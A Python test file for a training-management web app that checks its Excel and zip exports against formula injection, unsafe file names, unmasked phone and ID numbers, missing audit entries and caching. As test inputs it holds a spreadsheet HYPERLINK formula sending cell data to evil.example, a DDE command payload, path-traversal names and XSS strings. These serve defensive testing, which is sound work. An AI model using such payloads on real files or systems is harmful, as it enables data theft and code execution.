"""Exports of personal data: no typed text becomes a live formula, archive entry names cannot escape or inject,
phones and ID numbers are masked as on the pages, each export is audited (who, scope, rows) and sent with
Cache-Control: no-store."""

from __future__ import annotations

import io
import zipfile
from datetime import date, time, timedelta

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from lrc_training.certificates.services.batches import process_pending_batches
from lrc_training.certificates.services.issuing import IssueRequest, issue_certificate
from lrc_training.core.filenames import UniqueNames, safe_filename
from lrc_training.core.models import AuditLog
from lrc_training.core.xlsx import append_row, save_workbook
from lrc_training.courses.models import CourseSession
from lrc_training.courses.services.enrollment import enroll_trainee
from lrc_training.exams.services.bank import QuestionInput, create_question
from lrc_training.extensions import db
from tests.conftest import login, post_form
from tests.courses.helpers import make_course, make_school_and_teacher
from tests.factories import make_org, make_user, valid_id_number

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _no_formula(data: bytes) -> list:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def _audit(action):
    return db.session.execute(select(AuditLog).where(AuditLog.action == action)).scalars().all()


def test_append_row_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("s") if write_only else wb.active
        append_row(ws, [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "普通", 3, 4.5, None])
        cells = _no_formula(save_workbook(wb).getvalue())
        assert [c.value for c in cells[:7]] == [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\nx", "普通"]  # XML: CR → LF
        assert [c.data_type for c in cells[7:9]] == ["n", "n"]


def test_question_bank_export_has_no_formula_cells(client):
    org = make_org("聊城市职业技能等级认定中心", kind="evaluator", region_code="371500")
    staff = make_user("org_staff", username="staff", org=org)
    create_question(staff, QuestionInput(kind="single", level=4, function_code="LC", stem=EVIL,
                                         options={"A": "+1", "B": "@SUM(1)", "C": "-1", "D": "丁"}, answer="B",
                                         points=2, explanation="=1+1"))
    create_question(staff, QuestionInput(kind="essay", level=4, function_code="LC", stem="简述", answer="=2+2",
                                         rubric="=cmd|' /C calc'!A0", points=10))
    db.session.commit()
    login(client, "staff")
    response = client.get("/exams/bank/export.xlsx")
    assert "no-store" in response.headers["Cache-Control"]
    cells = _no_formula(response.data)
    values = [c.value for c in cells]
    assert EVIL in values and "=cmd|' /C calc'!A0" in values and "=2+2" in values
    numbers = {c.value for c in cells if c.column_letter == "F" and c.row > 1}  # 分值
    assert numbers == {2, 10}
    [entry] = _audit("export.question_bank")
    assert entry.actor_id == staff.id and entry.new["rows"] == 2


def _course_world(title="劳动合同管理实务"):
    school, teacher = make_school_and_teacher()
    course = make_course(teacher, capacity=5, hours=6, starts_on=date.today() - timedelta(days=1), title=title)
    people = [make_user("trainee", name=n) for n in ("陈晓燕", "=1+2")]
    for p in people:
        enroll_trainee(p, course.id)
    db.session.add(CourseSession(course_id=course.id, held_on=course.starts_on, starts_at=time(9), ends_at=time(12),
                                 topic="=HYPERLINK(\"x\")", hours="3"))
    db.session.commit()
    staff = make_user("org_staff", username="schoolstaff", org=school)
    return course, teacher, staff, people


def test_roster_and_attendance_exports_neutralise_formulas_and_are_audited(client):
    course, teacher, _, people = _course_world(title=EVIL)
    login(client, teacher.username)
    for kind in ("roster", "attendance"):
        response = client.get(f"/courses/{course.id}/export/{kind}.xlsx")
        assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
        values = [c.value for c in _no_formula(response.data)]
        assert any(isinstance(v, str) and v.startswith(EVIL) for v in values) and "=1+2" in values
        [entry] = _audit(f"export.course_{kind}")
        assert (entry.actor_id, entry.object_id, entry.new["rows"]) == (teacher.id, str(course.id), 2)
    # The title was an odd file name too: the download name carries no path or quote trick.
    disposition = client.get(f"/courses/{course.id}/export/roster.xlsx").headers["Content-Disposition"]
    assert "/" not in disposition.split("filename", 1)[1].replace("%2F", "/").split("xlsx")[0]


def _roster_values(client, course):
    book = load_workbook(io.BytesIO(client.get(f"/courses/{course.id}/export/roster.xlsx").data))
    return [c.value for row in book.active.iter_rows() for c in row if c.value is not None]


def test_roster_shows_phones_and_ids_as_the_page_does(app, client):
    course, teacher, staff, people = _course_world()
    person = people[0]
    masked_phone = person.phone[:3] + "****" + person.phone[-4:]
    # The course's instructor calls trainees: full phone, and no ID number in any form — export and page alike.
    login(client, teacher.username)
    values = _roster_values(client, course)
    page = client.get(f"/courses/{course.id}/manage").get_data(as_text=True)
    assert person.phone in values and person.phone in page
    assert "身份证号" not in values and person.id_number_masked not in values
    assert person.id_number_masked not in page and person.id_number not in page
    assert "完整" == _audit("export.course_roster")[0].new["phones"]
    # Staff of the organization: masked phone and masked ID number, exactly what the roster page shows.
    other = app.test_client()
    login(other, staff.username)
    values = _roster_values(other, course)
    page = other.get(f"/courses/{course.id}/manage").get_data(as_text=True)
    assert masked_phone in values and masked_phone in page
    assert person.id_number_masked in values and person.id_number_masked in page
    assert not any(person.phone in str(v) or person.id_number in str(v) for v in values)
    assert person.phone not in page


def test_registry_export_is_formula_safe_audited_and_not_cached(client):
    city = make_org("聊城市人社局", kind="hrss", region_code="371500")
    evaluator = make_org("认定中心", kind="evaluator", region_code="370000")
    company = make_org("@SUM(1)企业", kind="enterprise", region_code="371502")
    person = make_user("trainee", username="a", name=EVIL, org=company)
    issue_certificate(IssueRequest(kind="level", holder_name=person.name, holder_user_id=person.id,
                                   issuer_organization_id=evaluator.id, source_type="manual", level=3))
    db.session.commit()
    staff = make_user("org_staff", username="citystaff", org=city)
    login(client, "citystaff")
    response = client.get("/registry/export.xlsx")
    assert "no-store" in response.headers["Cache-Control"]
    values = [c.value for c in _no_formula(response.data)]
    assert EVIL in values and "@SUM(1)企业" in values
    [entry] = _audit("export.registry")
    assert (entry.actor_id, entry.new["rows"]) == (staff.id, 1)
    assert "371500" in response.headers["Content-Disposition"]  # the exported scope, not the last person's region


def test_results_workbook_is_audited_and_not_cached(client):
    from tests.contests.helpers import World

    world = World(judges=3)
    competition = world.ready()
    world.score(competition, lambda j, p, item: 80)
    login(client, "committee")
    response = client.get(f"/contests/{competition.id}/results.xlsx")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    _no_formula(response.data)
    [entry] = _audit("export.competition_results")
    assert entry.object_id == str(competition.id) and entry.new["rows"] == len(world.people)
    assert entry.actor_id is not None


def test_safe_filename_keeps_chinese_and_drops_what_escapes_or_injects():
    assert safe_filename("张三.pdf") == "张三.pdf"
    for raw in ("../../etc/passwd", "..\\..\\boot.ini", "<script>alert(1)</script>", "a\x00b\x1fc", "名\u202efdp.exe"):
        name = safe_filename(raw)
        assert not any(ch in name for ch in '/\\<>:"|?*\x00\x1f\u202e') and not name.startswith("."), name
    assert safe_filename("..") == "文件" and safe_filename("") == "文件"
    assert safe_filename("CON.pdf") == "_CON.pdf" and safe_filename("nul") == "_nul"
    assert safe_filename("长" * 300 + ".pdf").endswith(".pdf") and len(safe_filename("长" * 300 + ".pdf")) <= 120
    names = UniqueNames()
    assert [names("张三.pdf"), names("张三.pdf"), names("张三/.pdf"), names("张三.PDF")] == \
        ["张三.pdf", "张三 (2).pdf", "张三_.pdf", "张三 (3).PDF"]


def test_certificate_zip_entry_names_are_sanitised_and_the_download_is_audited(client):
    org = make_org("聊城市职业技能等级认定中心", kind="evaluator", region_code="371500")
    staff_id = make_user("org_staff", username="staff", org=org).id
    holders = ["../../../etc/陈晓燕", "<img src=x onerror=alert(1)>", "赵文博\\..\\x", "张三"]
    numbers = []
    for name in holders:
        cert, _ = issue_certificate(IssueRequest(kind="level", holder_name=name, issuer_organization_id=org.id,
                                                 source_type="import", source_id="20260301", level=3,
                                                 id_number=valid_id_number(seq=len(numbers) + 10)))
        numbers.append(cert.number)
    db.session.commit()
    login(client, "staff")
    post_form(client, "/certificates/batches", {"source": "import|20260301", "format": "zip"})
    assert process_pending_batches() == 1
    batch_id = db.session.execute(select(AuditLog.object_id).where(
        AuditLog.action == "certificate_batch.create")).scalar_one()
    response = client.get(f"/certificates/batches/{batch_id}/download")
    assert "no-store" in response.headers["Cache-Control"]
    names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
    assert len(names) == 4 and len(set(names)) == 4
    for name, number in zip(names, numbers, strict=True):
        assert name.startswith(number) and name.endswith(".pdf")
        assert not any(bad in name for bad in ("/", "\\", "<", ">", "..")), name
    assert any("陈晓燕" in n for n in names) and any("张三" in n for n in names)
    [entry] = _audit("export.certificate_batch")
    assert (entry.actor_id, entry.object_id, entry.new["rows"], entry.new["format"]) == (
        staff_id, batch_id, 4, "zip")
